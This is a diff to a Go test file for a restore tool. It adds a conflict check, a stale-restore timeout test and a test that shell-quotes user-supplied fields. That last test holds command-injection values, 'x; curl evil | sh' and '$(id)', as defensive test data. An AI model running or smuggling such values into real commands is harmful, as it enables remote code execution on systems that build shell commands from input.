@@ -104,6 +104,11 @@ func TestTake(t *testing.T) {
 	if again, err := d.take(person("rita"), ask("a"), uplink.Failed); err != nil || again.Name != r.Name || again.State != uplink.Running {
 		t.Errorf("%+v, %v", again, err)
 	}
+	other := ask("a")
+	other.Existing = "exact"
+	if got, err := d.take(person("rita"), other, uplink.Running); !errors.Is(err, store.ErrConflict) {
+		t.Errorf("something else by the same id: %+v, %v", got, err)
+	}
 	if _, err := d.take(person("rita"), ask("b"), uplink.Running); !errors.Is(err, store.ErrConflict) {
 		t.Errorf("another while it runs: %v", err)
 	}
@@ -131,6 +136,30 @@ func TestTake(t *testing.T) {
 	}
 	if want := "[restore.completed agent/east restore.preview user/rita restore.running agent/east restore.request user/rita]"; err != nil || fmt.Sprint(acts) != want {
 		t.Errorf("%v, want %s, %v", acts, want, err)
+	}
+}
+
+// A restore of whose end no site tells any more is in the way of no other.
+func TestLostRestore(t *testing.T) {
+	d := newDesk(t)
+	if _, err := d.take(person("rita"), ask("a"), uplink.Running); err != nil {
+		t.Fatal(err)
+	}
+	for _, days := range []time.Duration{6, 2} {
+		d.now = d.now.Add(days * 24 * time.Hour)
+		_, err := d.take(person("rita"), ask("b"), uplink.Running)
+		if gone := days == 2; gone != (err == nil) {
+			t.Errorf("after %d days more: %v", days, err)
+		}
+	}
+}
+
+// What a link to the page holds is a word in the command that the page shows, never
+// a command.
+func TestCommandIsQuoted(t *testing.T) {
+	a := Ask{Application: "shop", Point: "shop-2", Clone: true, Namespaces: map[string]string{"shop": "x; curl evil | sh"}, Existing: "$(id)"}
+	if got, want := a.Command(), `davit restore shop-2 --as-clone --map-namespace 'shop=x; curl evil | sh' --existing '$(id)'`; got != want {
+		t.Errorf("%s, want %s", got, want)
 	}
 }
 
